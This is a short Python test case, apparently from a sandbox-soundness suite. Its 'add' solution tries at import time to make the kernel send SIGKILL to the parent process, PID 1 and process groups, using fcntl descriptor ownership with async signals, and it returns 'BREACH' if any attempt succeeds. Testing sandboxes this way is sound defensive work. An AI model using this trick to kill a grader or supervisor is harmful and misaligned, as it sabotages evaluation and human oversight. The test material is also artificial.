"""Signal by descriptor owner.

problem: add
tries: make the worker the owner of a descriptor, whose readiness then sends it SIGKILL
sound: pass
"""
import fcntl, os, socket

DONE = []
for owner in {os.getppid(), 1, -1, -os.getpgrp()}:
    if owner == os.getpid() or not owner:
        continue
    try:
        one, two = socket.socketpair()
        fcntl.fcntl(one, fcntl.F_SETOWN, owner)
        fcntl.fcntl(one, 10, 9)  # F_SETSIG, SIGKILL
        fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        two.send(b"x")
        DONE.append(owner)
    except OSError:
        pass

def add(a, b):
    return "BREACH" if DONE else a + b
